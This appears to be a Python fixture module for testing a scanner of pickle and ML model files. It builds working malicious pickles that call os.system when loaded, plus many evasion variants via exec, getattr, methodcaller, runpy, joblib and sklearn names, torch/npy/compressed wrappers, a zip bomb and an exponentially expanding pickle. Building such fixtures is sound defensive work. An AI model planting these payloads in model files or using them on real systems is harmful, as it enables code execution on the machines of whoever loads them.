"""Files that would run a command if something loaded them: each writes a canary. Nothing here loads one."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any


class Command:
    """Runs a shell command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


class Calls:
    """Calls a function when it is unpickled."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.function, self.args = function, args

    def __reduce__(self) -> Any:
        return self.function, self.args


def plain(command: str, protocol: int = 4) -> bytes:
    return pickle.dumps({"weights": [1.0, 2.0], "state": Command(command)}, protocol=protocol)


def _nested(command: str) -> bytes:
    return pickle.dumps(Calls(pickle.loads, plain(command)))


def _obj(command: str) -> bytes:
    return b"(cposix\nsystem\nS'" + command.encode() + b"'\no."


def _inst(command: str) -> bytes:
    return b"(S'" + command.encode() + b"'\niposix\nsystem\n."


def _short(text: bytes) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text


def _stack_global(command: str) -> bytes:
    """The names of the function come out of the memo, in pieces that no list of strings shows together."""
    body = _short(b"system") + b"\x94" + _short(b"posix") + b"\x94" + b"00" + b"h\x01" + b"h\x00" + b"\x93"
    return b"\x80\x04" + body + _short(command.encode()) + b"\x85R."


def _builtins(command: str) -> bytes:
    return b"cbuiltins\nexec\n(S'import os; os.system(" + repr(command).replace("'", '"').encode() + b")'\ntR."


def _getattr(command: str) -> bytes:
    """os.system by way of a function that only looks up."""
    module = b"cimportlib\nimport_module\n(S'os'\ntR"
    return b"cbuiltins\ngetattr\n(" + module + b"S'system'\ntR(S'" + command.encode() + b"'\ntR."


def _truncated(command: str) -> bytes:
    """The end is missing, but the command has run by then."""
    return b"cposix\nsystem\n(S'" + command.encode() + b"'\ntR(S'never ends"


def _after_stop(command: str) -> bytes:
    """A harmless pickle first, then the bad one: some loaders read both."""
    return pickle.dumps({"fine": 1}) + plain(command)


def _operator(command: str) -> bytes:
    """attrgetter and methodcaller reach everything without naming it."""
    return b"coperator\nmethodcaller\n(S'system'\nS'" + command.encode() + b"'\ntR(cos\n__dict__\ntR."


def _runpy(command: str) -> bytes:
    return b"crunpy\n_run_code\n(S'import os; os.system(" + repr(command).replace("'", '"').encode() + b")'\n}tR."


def _numpy_run(command: str) -> bytes:
    return b"cnumpy.testing._private.utils\nrunstring\n(S'import os; os.system(" + repr(command).replace("'", '"').encode() + b")'\n}tR."


def _in_a_known_package(command: str) -> bytes:
    """A helper of the library that is trusted, which loads another pickle."""
    return b"cjoblib.numpy_pickle\nload\n(S'/nonexistent/" + command.encode()[:10].hex().encode() + b"'\ntR."


def _dotted(command: str) -> bytes:
    """A name with dots: `sklearn.base` has `warnings`, which has `sys`, which has `modules`."""
    return b"\x80\x04" + _short(b"sklearn.base") + _short(b"warnings.sys.modules") + b"\x93."


def _extension(command: str) -> bytes:
    return b"\x80\x02\x82\x01(S'" + command.encode() + b"'\ntR."


def _persistent(command: str) -> bytes:
    return b"P" + command.encode() + b"\n."


def _build(command: str) -> bytes:
    """State that replaces a class's own methods."""
    return b"csklearn.base\nBaseEstimator\n}S'__setstate__'\ncos\nsystem\nsbS'" + command.encode() + b"'\nb."


PICKLES: dict[str, Callable[[str], bytes]] = {
    **{f"protocol {number}": (lambda command, number=number: plain(command, number)) for number in range(6)},  # type: ignore[misc]
    "nested": _nested,
    "obj": _obj,
    "inst": _inst,
    "stack_global": _stack_global,
    "exec": _builtins,
    "getattr": _getattr,
    "truncated": _truncated,
    "after stop": _after_stop,
    "methodcaller": _operator,
    "runpy": _runpy,
    "numpy runstring": _numpy_run,
    "joblib load": _in_a_known_package,
    "dotted": _dotted,
    "extension": _extension,
    "persistent": _persistent,
    "build": _build,
}

COMPRESSED: dict[str, Callable[[bytes], bytes]] = {
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lzma": lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE),
    "zlib": zlib.compress,
}


def torch_zip(command: str, folder: str = "archive") -> bytes:
    """The form of `torch.save`: a ZIP file with a pickle in it."""
    return zipped({f"{folder}/data.pkl": plain(command, 2), f"{folder}/version": b"3\n", f"{folder}/data/0": b"\0" * 16})


def zipped(files: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """Return a ZIP file."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", compression) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return held.getvalue()


def tarred(files: dict[str, bytes]) -> bytes:
    """Return a compressed TAR file."""
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w:gz") as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return held.getvalue()


def object_array(command: str) -> bytes:
    """An `.npy` file of objects: a pickle after a header."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + plain(command)


def zip_bomb(size: int = 300_000_000) -> bytes:
    """A small file that unpacks to a large one."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("archive/data.pkl", "w") as file:
        for _ in range(size // 1_000_000):
            file.write(b"\0" * 1_000_000)
    return held.getvalue()


def expanding(levels: int = 40) -> bytes:
    """A pickle of a few bytes that builds lists of lists: two to the power of `levels`."""
    steps = (b"]q" + bytes([i + 1]) + b"(h" + bytes([i]) + b"h" + bytes([i]) + b"e" for i in range(levels))
    return b"\x80\x02" + b"]q\x00" + b"".join(steps) + b"."


def write(folder: Path, name: str, content: bytes) -> Path:
    """Write a file below a folder."""
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return path
